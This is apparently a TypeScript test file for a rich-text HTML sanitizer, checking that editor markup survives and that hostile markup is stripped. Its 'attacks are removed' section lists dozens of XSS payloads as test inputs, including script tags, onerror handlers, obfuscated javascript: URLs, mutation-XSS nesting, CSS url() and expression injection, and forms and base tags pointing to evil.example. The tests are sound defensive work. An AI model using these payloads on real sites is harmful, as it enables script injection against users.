import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { ownWorkMs } from '#platform/html/own-work.fixture';
import { richTextTags } from './rich-text-markup.ts';
import { sanitizeRichText } from './sanitize-rich-text.ts';

const png = 'data:image/png;base64,iVBORw0KGgo=';
const rel = 'target="_blank" rel="noopener noreferrer nofollow"';

describe('HTML of the editor is unchanged', () => {
  test.each([
    '<p>안녕하세요</p>',
    '<p style="text-align: center">가운데</p>',
    '<h1>하나</h1><h4>넷</h4>',
    '<p><strong>굵게</strong><em>기울임</em><u>밑줄</u><s>취소</s><code>코드</code></p>',
    '<pre><code>a &lt; b</code></pre><blockquote><p>인용</p></blockquote><hr />',
    '<ol start="3"><li><p>셋</p><ul><li><p>안</p></li></ul></li></ol>',
    '<p><span style="color: #ff0000; font-size: 14px; font-family: Pretendard, sans-serif">붉게</span></p>',
    '<p><span style="color: rgb(12, 34, 56)">푸르게</span></p>',
    '<p><mark style="color: inherit; background-color: #ffff00">형광</mark></p>',
    '<table style="min-width: 75px"><colgroup><col style="width: 120px" /></colgroup><tbody><tr><th colspan="1" rowspan="2" colwidth="120"><p>가</p></th><td colspan="2"><p>나</p></td></tr></tbody></table>',
    '<table><tbody><tr><td style="text-align: center; background-color: rgb(255, 242, 204)"><p>가</p></td></tr></tbody></table>',
    `<img src="${png}" width="120" height="80" />`,
    `<p><a href="https://example.com/?a=1&amp;b=2" ${rel}>링크</a></p>`,
    `<p><a href="mailto:a@example.com" ${rel}>편지</a></p>`,
    '<p>[브라켓] #import $x$ * \\ `</p>',
    '<p>  항목   수량\t금액\t\t1,200  </p><p>   </p>',
  ])('%s', (html) => expect(sanitizeRichText(html)).toBe(html));
});

describe('other HTML is converted to that of the editor', () => {
  test.each([
    ['<p><b>b</b><i>i</i><del>d</del><strike>s</strike></p>', '<p><strong>b</strong><em>i</em><s>d</s><s>s</s></p>'],
    ['<div class="x"><font color="red">글</font></div>', '글'],
    ['<ul><li><section><li>a', '<ul><li></li><li>a</li></ul>'],
    ['<h6 id="x">여섯</h6>', '<h4>여섯</h4>'],
    ['<p style="position:fixed;text-align:right;top:0">x</p>', '<p style="text-align: right">x</p>'],
    ['<p>a<!-- b -->c<![CDATA[d]]></p>', '<p>ac</p>'],
    [`<img src="${png}" alt="박지훈 촬영.jpg" title="박지훈">`, `<img src="${png}" />`],
    ['a < b & c', 'a &lt; b &amp; c'],
    ['\ud800', '\ufffd'],
  ])('%s', (html, clean) => expect(sanitizeRichText(html)).toBe(clean));
});

describe('attacks are removed', () => {
  test.each([
    ['<script>alert(1)</script>', ''],
    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ''],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
    ['<<x>script>alert(1)<</x>/script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['<p onclick="alert(1)" onmouseover=alert(1)>x</p>', '<p>x</p>'],
    ['<img src=x onerror=alert(1)>', '<span></span>'],
    ['<img/src="x"/onerror=alert(1)>', '<span></span>'],
    ['<img src="https://evil.example/pixel.png">', '<span></span>'],
    ['<img src="//evil.example/pixel.png">', '<span></span>'],
    [`<img src="${png}" srcset="https://evil.example/a 2x" onload=alert(1)>`, `<img src="${png}" />`],
    ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<span></span>'],
    ['<img src="data:text/html;base64,PHN2Zz4=">', '<span></span>'],
    ['<img src="data:image/png,plain">', '<span></span>'],
    ['<img src="data:image/png;base64,<svg>">', '<span></span>'],
    ['<img src="data:image/png;base64,AAA">', '<span></span>'],
    ['<img src=`javascript:alert(1)`>', '<span></span>'],
    ['<a href="javascript:alert(1)">x</a>', '<span>x</span>'],
    ['<a href="JaVaScRiPt:alert(1)">x</a>', '<span>x</span>'],
    ['<a href=" &#14; javascript:alert(1)">x</a>', '<span>x</span>'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', '<span>x</span>'],
    ['<a href="&#106;avascript:alert(1)">x</a>', '<span>x</span>'],
    ['<a href="vbscript:x">x</a>', '<span>x</span>'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<span>x</span>'],
    ['<a href="//evil.example">x</a>', '<span>x</span>'],
    ['<a href="https:evil">x</a>', '<span>x</span>'],
    ['<a href="/logout">x</a>', '<span>x</span>'],
    [
      '<a href="https://a.example" target="_self" rel="opener" ping="//e">x</a>',
      `<a href="https://a.example" ${rel}>x</a>`,
    ],
    ['<svg onload=alert(1)><p>x</p></svg>y', 'y'],
    ['<svg><style><img src=x onerror=alert(1)></style></svg>', ''],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
    ['<iframe src="javascript:alert(1)"></iframe>', ''],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
    ['<object data="x.swf"></object><embed src="x.swf">', ''],
    ['<form action="//evil.example"><input name=password><button formaction="//e">보내기</button></form>', '보내기'],
    ['<textarea><script>alert(1)</script></textarea>', ''],
    ['<xmp><script>alert(1)</script></xmp>', ''],
    ['<base href="//evil.example"><meta http-equiv=refresh content=0><link rel=stylesheet href=//e>', ''],
    ['<style>@import "//evil.example"</style>', ''],
    ['<span style="background-color:url(javascript:alert(1))">x</span>', '<span>x</span>'],
    ['<span style="background:url(//evil.example)">x</span>', '<span>x</span>'],
    ['<span style="color:expression(alert(1))">x</span>', '<span>x</span>'],
    ['<span style="color:r\\65 d">x</span>', '<span>x</span>'],
    [
      '<table><tr><td style="background-color:url(//evil.example)">x</td></tr></table>',
      '<table><tr><td>x</td></tr></table>',
    ],
    ['<span style="color:/**/red">x</span>', '<span>x</span>'],
    ['<span style="font-family:x;behavior:url(#)">x</span>', '<span style="font-family: x">x</span>'],
    ['<span style="font-size:9999px">x</span>', '<span>x</span>'],
    ['<p style="text-align:center" class="x" id="x" data-x="1">x</p>', '<p style="text-align: center">x</p>'],
    ['<ol start="1e9"><li>x</li></ol>', '<ol><li>x</li></ol>'],
    ['<table><tr><td colspan="100000">x</td></tr></table>', '<table><tr><td>x</td></tr></table>'],
    ['<!--><script>alert(1)</script>-->', '--&gt;'],
    ['<p title="--><script>alert(1)</script>">x</p>', '<p>x</p>'],
    ['<p/onclick=alert(1)//', ''],
    ['&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ])('%s', (html, clean) => {
    expect(sanitizeRichText(html)).toBe(clean);
    expect(sanitizeRichText(clean)).toBe(clean);
  });
});

const tags = [
  ...richTextTags,
  'div',
  'b',
  'section',
  'svg',
  'script',
  'style',
  'math',
  'option',
  'textarea',
  'noscript',
];
const pieces = fc.oneof(
  fc.constantFrom(...tags).map((tag) => `<${tag}>`),
  fc.constantFrom(...tags).map((tag) => `</${tag}>`),
  fc.constantFrom('<', '>', '"', "'", '&', '&lt;', '&#60;', '<!--', '-->', '<![CDATA[', ' onerror=x', '=', '/', '<p '),
  fc.constantFrom('<a href="javascript:x">', '<a href=https://x.example>', `<img src=${png}>`, '<p style="color:red">'),
  fc.string({ unit: 'binary', maxLength: 8 }),
);
const markup = fc.array(pieces, { maxLength: 40 }).map((each) => each.join(''));

describe('for any text', () => {
  test('a second run gives the same result', () => {
    fc.assert(
      fc.property(markup, (html) => {
        const once = sanitizeRichText(html);
        expect(sanitizeRichText(once)).toBe(once);
      }),
      { numRuns: 3000 },
    );
  });

  test('the result has only allowed tags and attributes', () => {
    const allowed =
      /<\/?([a-z0-9]+)((?: (?:style|colspan|rowspan|colwidth|start|href|target|rel|src|width|height)="[^"<>]*")*)(?: \/)?>/g;
    fc.assert(
      fc.property(markup, (html) => {
        const clean = sanitizeRichText(html);
        for (const [, tag] of clean.matchAll(allowed)) expect(richTextTags).toContain(tag);
        expect(clean.replace(allowed, '')).not.toMatch(/[<>]/);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('size', () => {
  const timed = (html: string): string => {
    const begin = ownWorkMs();
    const clean = sanitizeRichText(html);
    expect(ownWorkMs() - begin).toBeLessThan(20_000);
    return clean;
  };

  test.each(['b', 'div', 'span', 'ul', 'x'])('100,000 nested <%s> do no harm, and the text stays', (tag) => {
    expect(timed(`${`<${tag}>`.repeat(100_000)}글`).replace(/<[^>]*>/g, '')).toBe('글');
  });

  test('nesting hidden behind elements that close by themselves does no harm', () => {
    expect(timed(`${'<p><ul></p>'.repeat(100_000)}글`)).toBe('글');
  });

  test('a picture of 5,000,000 characters passes', () => {
    const html = `<img src="data:image/png;base64,${'A'.repeat(4_999_960)}" />`;
    expect(timed(html)).toBe(html);
  });

  test('a text of 5,000,000 characters passes', () => {
    const html = '<p>활주로 조류 퇴치 장비를 구매하고자 합니다.</p>'.repeat(150_000);
    expect(timed(html)).toBe(html);
  });
});
